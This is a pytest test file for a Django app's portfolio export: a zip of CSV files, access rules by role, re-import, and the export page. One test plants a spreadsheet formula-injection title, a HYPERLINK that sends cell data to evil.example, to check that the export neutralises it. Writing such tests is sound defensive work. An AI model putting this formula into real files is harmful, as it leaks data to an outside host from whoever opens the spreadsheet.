"""The export download: a zip of the four files, for product managers, executives and admins."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from gates.interchange import ImportFailed, command_line_import, exported_files
from gates.interchange.export import ONLY_WITH_ROWS

SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample-portfolio"
URL = reverse("portfolio_export")


def archive(response) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def test_it_requires_login(client):
    response = client.get(URL)

    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


@pytest.mark.parametrize("persona", ["alice", "carol"])
def test_it_refuses_researchers_and_architects(client, persona, request):
    client.force_login(request.getfixturevalue(persona))

    assert client.get(URL).status_code == 403


@pytest.mark.parametrize("persona", ["bob", "erin", "adam"])
def test_it_downloads_a_zip_of_the_four_files(db, client, persona, request):
    command_line_import(SAMPLE)
    client.force_login(request.getfixturevalue(persona))

    response = client.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="greenlight-portfolio-')
    files = archive(response)
    assert sorted(files.namelist()) == sorted(
        name for name in exported_files() if name not in ONLY_WITH_ROWS
    )
    spend = files.read("spend.csv").decode("utf-8").splitlines()
    assert spend[0] == "project,spent_on,amount,category,note"
    assert len(spend) == 621


def test_its_zip_imports_back(client, bob, tmp_path):
    command_line_import(SAMPLE)
    client.force_login(bob)

    archive(client.get(URL)).extractall(tmp_path)

    with pytest.raises(ImportFailed) as failure:  # the same keys: refused, unless replacing
        command_line_import(tmp_path)
    (problem,) = failure.value.errors  # one line for all of them
    assert "62 keys already exist" in problem
    # Replaced with its own export, every project is as the app holds it: left as it is.
    summary = command_line_import(tmp_path, replace=True)
    assert (summary.projects_replaced, summary.projects_unchanged) == (0, 62)


def test_it_only_answers_get(client, bob):
    client.force_login(bob)

    assert client.post(URL).status_code == 405


def test_its_files_keep_text_that_looks_like_a_formula_as_text(client, bob, alice):
    from tests.builders import make_project

    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_project(key="EVIL", title=title, researcher=alice, product_manager=bob)
    client.force_login(bob)

    files = archive(client.get(URL))

    projects = files.read("projects.csv").decode("utf-8").splitlines()
    assert projects[1].startswith('EVIL,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"')


# --- The Export page: what an export holds, and its two downloads ----------------------------

PAGE = reverse("portfolio_export_page")


@pytest.mark.parametrize("persona", ["alice", "carol"])
def test_the_export_page_refuses_researchers_and_architects(client, persona, request):
    client.force_login(request.getfixturevalue(persona))

    assert client.get(PAGE).status_code == 403


def test_the_navigation_opens_the_export_page_not_a_download(client, adam):
    client.force_login(adam)

    home = client.get(reverse("home")).content.decode()

    assert f'<a href="{PAGE}" >Export</a>' in home  # the navigation
    assert f'<a href="{PAGE}">Export the portfolio</a>' in home  # My work's administration links
    assert f'href="{URL}"' not in home


def test_the_export_page_lists_the_files_with_their_rows_and_offers_both_downloads(
    db, client, bob, django_assert_max_num_queries
):
    command_line_import(SAMPLE)
    client.force_login(bob)

    with django_assert_max_num_queries(12):
        response = client.get(PAGE)

    page = response.content.decode()
    assert response.status_code == 200
    for name in exported_files():
        assert f"<code>{name}</code>" in page
    # spend.csv has 620 entries (621 lines with its header), counted from the monthly rollup.
    rows = {
        name: page.split(f"<code>{name}</code>", 1)[1].split("</tr>", 1)[0]
        for name in ("projects.csv", "spend.csv")
    }
    assert 'data-label="Rows now">620<' in rows["spend.csv"]
    assert f'href="{URL}" download>Download the CSV files (.zip)' in page
    assert f'href="{reverse("portfolio_export_workbook")}" download>' in page
    assert "Import a portfolio" not in page  # bob may export, not import


def test_the_export_page_counts_no_draft(client, bob, alice):
    from portfolio.models import Status
    from tests.builders import make_project

    make_project(key="SUBMITTED", researcher=alice, product_manager=bob)
    make_project(key="DRAFTED", researcher=alice, product_manager=bob, status=Status.DRAFT)
    client.force_login(bob)

    page = client.get(PAGE).content.decode()

    projects_row = page.split("<code>projects.csv</code>", 1)[1].split("</tr>", 1)[0]
    assert 'data-label="Rows now">1<' in projects_row
